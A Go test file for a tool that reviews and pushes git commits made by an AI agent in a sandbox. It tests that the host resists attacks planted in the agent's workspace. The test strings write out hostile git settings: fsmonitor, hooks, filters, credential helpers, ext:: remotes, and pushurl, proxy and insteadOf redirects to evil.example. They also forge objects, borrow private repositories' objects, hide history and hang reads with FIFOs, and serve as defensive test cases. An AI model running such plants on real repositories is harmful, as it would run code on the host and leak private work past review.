package gitops

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fletch/gitops/gittest"
	"fletch/state"
)

// rawCommit writes a commit object with any tree and parents, whether they
// are there or not.
const rawCommit = `
raw() { # TREE, with HEAD as its parent
	{ echo "tree $1"; echo "parent $(git rev-parse HEAD)"
	  echo "author A <a@b> 1700000000 +0000"; echo "committer A <a@b> 1700000000 +0000"; echo; echo raw; } |
	git hash-object -t commit -w --stdin --literally
}
`

// inQuarantine reports whether the quarantine itself has an object.
func (f *fixture) inQuarantine(id string) bool {
	_, err := gittest.Try(f.t, "/", "--git-dir="+f.git.Home.Quarantine(string(f.agent.ID)), "cat-file", "-e", id)
	return err == nil
}

func TestObjectsOfOtherRepositoriesCannotBeBorrowed(t *testing.T) { // E1
	t.Parallel()
	other := gittest.Repo(t, map[string]string{"key.txt": "TOPSECRET"})
	tree := gittest.Run(t, other, "rev-parse", "HEAD^{tree}")
	f := setup(t, nil).open()
	head := state.Commit(f.inSandbox(rawCommit + "echo " + other + "/.git/objects >> .git/objects/info/alternates; raw " + tree))
	if err := f.git.Ingest(t.Context(), f.agent, head); !errors.Is(err, ErrBroken) || !strings.Contains(err.Error(), "alternate") {
		t.Errorf("ingested a commit with another repository's tree: %v", err)
	}
	if f.inQuarantine(tree) {
		t.Error("the tree is in the quarantine")
	}
	if _, err := f.plan(head, false); err == nil {
		t.Error("planned to push it")
	}
}

func TestALinkToAnotherRepositoryShowsNothing(t *testing.T) { // E2, E3
	t.Parallel()
	other := gittest.Repo(t, map[string]string{"key.txt": "TOPSECRET"})
	secret := gittest.Run(t, other, "rev-parse", "HEAD")
	f := setup(t, nil).open()
	f.inSandbox("mkdir -p .git/refs/heads; ln -s " + other + "/.git/refs/heads/main .git/refs/heads/leak; echo 'ref: refs/heads/leak' > .git/HEAD")
	if head, err := f.git.Head(t.Context(), f.agent); err == nil {
		t.Errorf("head is %s, the other repository's is %s", head, secret)
	}
	f.inSandbox("rm -rf .git; echo 'gitdir: " + other + "/.git' > .git")
	if head, err := f.git.Head(t.Context(), f.agent); err == nil {
		t.Errorf("head is %s, the other repository's is %s", head, secret)
	}
	if err := f.git.Ingest(t.Context(), f.agent, state.Commit(secret)); err == nil {
		t.Error("ingested the other repository's commit")
	}
}

func TestAForgedObjectIsRefused(t *testing.T) { // E4
	t.Parallel()
	f := setup(t, nil).open()
	head := state.Commit(f.inSandbox(rawCommit + `
good=$(echo good | git hash-object -w --stdin); evil=$(echo EVIL | git hash-object -w --stdin)
file() { echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }
tree=$(printf '100644 blob %s\ta\n' $good | git mktree)
chmod u+w $(file $good); cp $(file $evil) $(file $good)
test "$(git cat-file -p $good)" = EVIL
raw $tree`))
	err := f.git.Ingest(t.Context(), f.agent, head)
	if !errors.Is(err, ErrBroken) || !strings.Contains(err.Error(), "did not receive expected object") || f.inQuarantine(string(head)) && f.git.onlyRef(f, headRef) == head {
		t.Errorf("ingested an object that is not what its name says: %v", err)
	}
}

func (g Git) onlyRef(f *fixture, name string) state.Commit {
	q, err := g.quarantine(f.agent.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	return q.ref(name)
}

func TestABaseFileCannotBeShownAsSomethingElse(t *testing.T) { // E5
	t.Parallel()
	f := setup(t, map[string]string{"README.md": "true\n"}).open()
	head := state.Commit(f.inSandbox(`
base=$(git rev-parse HEAD:README.md); fake=$(echo FAKE | git hash-object -w --stdin)
file() { echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }
mkdir -p $(dirname $(file $base)); cp $(file $fake) $(file $base)
test "$(git cat-file -p $base)" = FAKE
echo changed > README.md; git commit -qam work; git rev-parse HEAD`))
	p := f.mustPlan(head, false)
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || !strings.Contains(patch.Diff, "-true") || strings.Contains(patch.Diff, "FAKE") {
		t.Errorf("the diff is %v:\n%s", err, patch.Diff)
	}
}

func TestAMergeWithAPrivateCommitIsSaid(t *testing.T) { // E6
	t.Parallel()
	f := setup(t, nil)
	gittest.Run(t, f.repo, "checkout", "--quiet", "-b", "private")
	private := gittest.Commit(t, f.repo, "private", map[string]string{"PRIVNOTE": "secret"})
	gittest.Run(t, f.repo, "checkout", "--quiet", "main")
	f.open()
	head := state.Commit(f.inSandbox("git commit-tree -p HEAD -p " + private + " -m merge HEAD^{tree}"))
	p := f.mustPlan(head, false)
	if len(p.Files) != 0 {
		t.Errorf("the difference is %v", p.Files)
	}
	wantFlag(t, p, "unpushed", "publishes 1 commit of yours that you never pushed ("+private[:7]+")")
	wantFlag(t, p, "merge", "merge commit")
	if len(p.Red()) != 1 {
		t.Errorf("red flags %v", p.Red())
	}
}

func TestADanglingCommitIsSaid(t *testing.T) {
	t.Parallel()
	f := setup(t, nil)
	dangling := gittest.Commit(t, f.repo, "amended away", map[string]string{"PRIVNOTE": "secret"})
	gittest.Run(t, f.repo, "reset", "--quiet", "--hard", "HEAD~1")
	f.open()
	head := state.Commit(f.inSandbox("git commit-tree -p HEAD -p " + dangling + " -m merge HEAD^{tree}"))
	// Also when its objects were copied first, and when the user's
	// repository is gone.
	f.inSandbox("git unpack-objects < /dev/null 2>/dev/null || true; git repack -qad 2>/dev/null || true")
	want := "publishes 1 commit of yours that you never pushed (" + dangling[:7] + ")"
	wantFlag(t, f.mustPlan(head, false), "unpushed", want)
	if err := os.RemoveAll(f.repo); err != nil {
		t.Fatal(err)
	}
	wantFlag(t, f.mustPlan(head, false), "unpushed", want)
}

func TestAPrivateTreeWithoutItsCommitIsSaid(t *testing.T) {
	t.Parallel()
	f := setup(t, map[string]string{"a": "1\n"})
	gittest.Run(t, f.repo, "checkout", "--quiet", "-b", "private")
	private := gittest.Commit(t, f.repo, "private", map[string]string{"notes/PRIVNOTE": "secret"})
	tree := gittest.Run(t, f.repo, "rev-parse", private+":notes")
	gittest.Run(t, f.repo, "checkout", "--quiet", "main")
	f.open()
	head := state.Commit(f.inSandbox("git read-tree --prefix=mine/ " + tree + "; git checkout -q -- mine; git commit -qm work; git rev-parse HEAD"))
	p := f.mustPlan(head, false)
	wantFlag(t, p, "unpushed", "publishes 2 objects of yours that you never pushed ("+p.Flags[0].Text[strings.Index(p.Flags[0].Text, "(")+1:])

	// Going back to what was there before is no secret.
	f.inSandbox("git reset -q --hard " + string(f.src.Base.Commit))
	f.commit("echo 2 > a")
	head = f.commit("echo 1 > a")
	if p := f.mustPlan(head, false); len(p.Red()) != 0 {
		t.Errorf("red flags %v", p.Red())
	}
}

func TestAPushIsOfTheCommitThatWasSeen(t *testing.T) { // E7
	t.Parallel()
	f := setup(t, nil).open()
	seen := f.commit("echo good > a")
	p := f.mustPlan(seen, false)
	f.commit("echo evil > a")
	f.inSandbox("git branch -f fletch/amber-river HEAD")
	f.mustPush(p)
	if f.at("fletch/amber-river") != string(seen) {
		t.Errorf("pushed %s, seen %s", f.at("fletch/amber-river"), seen)
	}
}

func TestReplacedAndGraftedHistoryIsShownAsItIs(t *testing.T) { // E7b
	t.Parallel()
	f := setup(t, nil).open()
	f.commit("echo hidden > hidden")
	bad := f.commit("echo bad > a")
	f.inSandbox("unset GIT_NO_REPLACE_OBJECTS; nice=$(git commit-tree -p " + string(f.src.Base.Commit) + " -m nice HEAD~2^{tree}); git replace " + string(bad) + " $nice; test \"$(git log -1 --format=%s " + string(bad) + ")\" = nice")
	p := f.mustPlan(bad, false)
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || len(p.Commits) != 2 || p.Commits[0].Subject != "work" || !strings.Contains(patch.Diff, "+bad") || !strings.Contains(patch.Diff, "+hidden") {
		t.Errorf("planned %+v, %v\n%s", p, err, patch.Diff)
	}
}

func TestAGraftThatHidesACommitIsRefused(t *testing.T) { // E8
	t.Parallel()
	f := setup(t, nil).open()
	f.commit("echo hidden > hidden")
	bad := f.commit("echo bad > a")
	f.inSandbox("echo " + string(bad) + " " + string(f.src.Base.Commit) + " > .git/info/grafts; test $(git rev-list --count HEAD) = 2")
	if _, err := f.plan(bad, false); !errors.Is(err, ErrBroken) {
		t.Errorf("planned a commit without its history: %v", err)
	}
}

func TestAShallowWorkspaceIsRefusedNotStale(t *testing.T) { // E8, trap 1
	t.Parallel()
	f := setup(t, nil).open()
	first := f.commit("echo 1 > a")
	if err := f.git.Ingest(t.Context(), f.agent, first); err != nil {
		t.Fatal(err)
	}
	second := f.commit("echo 2 > a")
	f.inSandbox("echo " + string(second) + " > .git/shallow")
	if err := f.git.Ingest(t.Context(), f.agent, second); !errors.Is(err, ErrBroken) {
		t.Errorf("ingested a commit without its history: %v", err)
	}
	if _, err := f.plan(second, false); err == nil {
		t.Error("planned it")
	}
}

func TestWhatAnEarlierCommitCarriesIsShown(t *testing.T) {
	t.Parallel()
	f := setup(t, nil).open()
	f.commit("echo PASSWORD=hunter2 > env")
	head := f.commit("rm env; echo x > x")
	p := f.mustPlan(head, false)
	wantFlag(t, p, "hidden", "1 file only in earlier commits")
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || !strings.Contains(patch.Diff, "+PASSWORD=hunter2") {
		t.Errorf("the diff is %v:\n%s", err, patch.Diff)
	}
}

func TestAPlantNeverRunsOnTheHost(t *testing.T) {
	t.Parallel()
	f := setup(t, nil).open()
	mark := filepath.Join(t.TempDir(), "MARK")
	head := f.commit("echo 1 > a")
	touch := "touch " + mark
	for _, plant := range []string{
		"git config core.fsmonitor '" + touch + "'",
		"git config core.hooksPath /tmp; git config core.pager '" + touch + "'; git config core.sshCommand '" + touch + "'; git config core.gitProxy '" + touch + "'; git config core.askPass '" + touch + "'",
		"mkdir -p .git/hooks; for h in pre-push post-checkout reference-transaction post-index-change pre-receive; do printf '#!/bin/sh\\n" + touch + "\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done",
		"git config filter.x.clean '" + touch + "'; git config filter.x.smudge '" + touch + "'; echo '* filter=x diff=x merge=x' > .gitattributes; git config diff.x.textconv '" + touch + "'; git config diff.x.command '" + touch + "'; git config diff.external '" + touch + "'",
		"git config url.https://evil.example/.insteadOf " + f.remote[:10] + "; git config remote.origin.pushurl https://evil.example/x; git config http.proxy http://evil.example; git config credential.helper '!" + touch + "'; git config core.alternateRefsCommand '" + touch + "'",
		"git config extensions.partialClone evil; git config remote.evil.promisor true; git config remote.evil.url 'ext::sh -c " + mark + "'; git config remote.evil.uploadpack '" + touch + "'; git config protocol.ext.allow always",
		"git config gpg.program '" + touch + "'; git config log.showSignature true; git config uploadpack.packObjectsHook '" + touch + "'",
		"git config core.worktree " + f.repo,
		"rm -rf .git; ln -s " + f.repo + "/.git .git",
	} {
		t.Run(plant[:min(40, len(plant))], func(t *testing.T) {
			defer f.keep()()
			f.inSandbox(plant)
			_, _ = f.git.Head(t.Context(), f.agent)
			_ = f.git.Ingest(t.Context(), f.agent, head)
			_, _ = f.git.Measure(t.Context(), f.agent)
			_, _ = f.git.Changes(t.Context(), f.agent)
			if p, err := f.plan(head, false); err == nil && p.Remote != f.remote {
				t.Errorf("planned a push to %s", p.Remote)
			}
			if _, err := os.Lstat(mark); err == nil {
				t.Error("the agent's command ran on the host")
			}
		})
	}
	f.mustPush(f.mustPlan(head, false))
	if _, err := os.Lstat(mark); err == nil {
		t.Error("the agent's command ran on the host")
	}
}

// keep copies the workspace and returns what puts the copy back.
func (f *fixture) keep() (restore func()) {
	f.t.Helper()
	ws, copied := f.agent.Workspace, f.t.TempDir()
	if out, err := tarCopy(ws, copied); err != nil {
		f.t.Fatal(err, out)
	}
	return func() {
		if err := os.RemoveAll(ws); err != nil {
			f.t.Fatal(err)
		}
		if out, err := tarCopy(copied, ws); err != nil {
			f.t.Fatal(err, out)
		}
	}
}

func TestAWorkspaceThatHangsIsGivenUp(t *testing.T) {
	t.Parallel()
	f := setup(t, nil).open()
	head := f.commit("echo 1 > a")
	reads := map[string]func() error{
		"head":    func() error { _, err := f.git.Head(t.Context(), f.agent); return err },
		"ingest":  func() error { return f.git.Ingest(t.Context(), f.agent, head) },
		"measure": func() error { _, err := f.git.Measure(t.Context(), f.agent); return err },
	}
	for plant, hangs := range map[string][]string{
		"rm .git/HEAD; mkfifo .git/HEAD":                                       {"head", "ingest", "measure"},
		"rm .git/config; mkfifo .git/config":                                   {"head"},
		"rm .git/objects/info/alternates; mkfifo .git/objects/info/alternates": {"ingest"},
		"mkfifo .git/shallow":                                                  {"ingest"},
		// Attributes are read only for a file that has to be hashed again.
		"echo 2 > a; mkfifo .gitattributes": {"measure"},
		"mkfifo .gitignore":                 {"measure"},
	} {
		t.Run(plant, func(t *testing.T) {
			defer f.keep()()
			f.git.Patience = time.Minute
			f.inSandbox(plant)
			f.git.Patience = 2 * time.Second
			for _, name := range hangs {
				if err := reads[name](); !errors.Is(err, ErrTimeout) {
					t.Errorf("%s: %v", name, err)
				}
			}
		})
	}
	f.git.Patience = time.Minute
	for _, plant := range []string{"rm .git/index; mkfifo .git/index", "rm -rf .git; mkfifo .git", "rm -rf .git"} {
		t.Run(plant, func(t *testing.T) {
			defer f.keep()()
			f.inSandbox(plant)
			if _, err := f.git.Measure(t.Context(), f.agent); err == nil && strings.Contains(plant, "-rf") {
				t.Error("measured a workspace that is no repository")
			}
		})
	}
}

func TestTreesThatNoCheckoutShouldMeetAreRefused(t *testing.T) {
	t.Parallel()
	f := setup(t, nil).open()
	for name, entry := range map[string]string{
		"a repository inside": `040000 tree $sub\t.git`, "in another case": `040000 tree $sub\t.GIT`, "in its short form": `100644 blob $blob\tgit~1`,
		"the folder above": `040000 tree $sub\t..`, "modules by a link": `120000 blob $blob\t.gitmodules`,
	} {
		head := state.Commit(f.inSandbox(rawCommit + "blob=$(echo x | git hash-object -w --stdin); sub=$(printf \"100644 blob $blob\\tconfig\\n\" | git mktree); raw $(printf \"" + entry + "\\n\" | git mktree)"))
		if err := f.git.Ingest(t.Context(), f.agent, head); !errors.Is(err, ErrBroken) || !strings.Contains(err.Error(), "fsck error") {
			t.Errorf("%s: %v", name, err)
		}
	}
}
